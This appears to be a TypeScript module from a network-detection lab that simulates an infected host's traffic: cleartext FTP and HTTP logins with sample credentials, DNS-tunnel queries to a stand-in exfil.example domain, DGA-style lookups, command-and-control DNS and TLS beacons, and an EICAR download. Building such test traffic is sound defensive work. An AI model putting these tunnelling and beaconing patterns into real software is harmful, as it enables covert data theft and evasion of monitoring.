import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';
import type { AttackName } from '../attack-kinds.ts';
import { ADDRESSES, HOSTS, PORTS } from '../layout.ts';
import { fetchUrl, labResolver } from './requests.ts';
import { closeSocket, expectText, openSocket } from './sockets.ts';

const localAddress = ADDRESSES.infected.ip4;
const resolver = labResolver(ADDRESSES.infected.ip4, ADDRESSES.infected.ip6);

/** Everything below `.example` that the server does not know ends here, as on purpose. */
const ignoreMissing = (): undefined => undefined;

async function cleartextCredentials(): Promise<void> {
  const ftp = await openSocket({ host: ADDRESSES.server.ip4, port: PORTS.ftp, localAddress });
  await expectText(ftp, '220 ');
  ftp.write('USER anna\r\n');
  await expectText(ftp, '331 ');
  ftp.write('PASS summer2024\r\n');
  await expectText(ftp, '530 ');
  ftp.write('QUIT\r\n');
  await closeSocket(ftp);
  const authorization = `Basic ${Buffer.from('anna:summer2024').toString('base64')}`;
  await fetchUrl(`http://${ADDRESSES.server.ip4}`, '/admin/', {
    localAddress,
    headers: { Host: HOSTS.portal, Authorization: authorization },
  });
}

async function dnsTunnel(): Promise<void> {
  for (let part = 0; part < 6; part += 1) {
    const [one, two] = [randomBytes(30).toString('hex'), randomBytes(30).toString('hex')];
    const name = `${one}.${two}.${String(1000 + part)}.t.exfil.example`;
    await resolver.resolveTxt(name).catch(ignoreMissing);
    await sleep(80);
  }
}

async function dnsDga(): Promise<void> {
  for (let count = 0; count < 12; count += 1) {
    const letters = [...randomBytes(20)].map((byte) => String.fromCharCode(97 + (byte % 26)));
    await resolver.resolve4(`${letters.join('')}.example`).catch(ignoreMissing);
    await sleep(50);
  }
}

async function dnsBadName(): Promise<void> {
  await resolver.resolve4(HOSTS.commandAndControl);
}

async function tlsBadSni(): Promise<void> {
  const tcp = await openSocket({ host: ADDRESSES.outside.ip4, port: PORTS.tls, localAddress });
  const socket = connectTls({
    socket: tcp,
    servername: HOSTS.commandAndControl,
    rejectUnauthorized: false, // malware does not mind a self-signed certificate either
  });
  await once(socket, 'secureConnect');
  socket.write(randomBytes(64));
  await once(socket, 'data');
  socket.end();
  await once(socket, 'close');
}

async function eicarDownload(): Promise<void> {
  await fetchUrl(`http://${ADDRESSES.outside.ip4}:${String(PORTS.payload)}`, '/invoice.com', {
    localAddress,
    headers: {
      Host: `${HOSTS.payload}:${String(PORTS.payload)}`,
      'User-Agent': 'Mozilla/4.0 (compatible; MSIE 6.0)',
    },
  });
}

/** What the infected machine does, by kind. */
export const INFECTED_ATTACKS: ReadonlyMap<string, () => Promise<void>> = new Map<
  AttackName,
  () => Promise<void>
>([
  ['cleartext-credentials', cleartextCredentials],
  ['dns-tunnel', dnsTunnel],
  ['dns-dga', dnsDga],
  ['dns-bad-name', dnsBadName],
  ['tls-bad-sni', tlsBadSni],
  ['eicar-download', eicarDownload],
]);
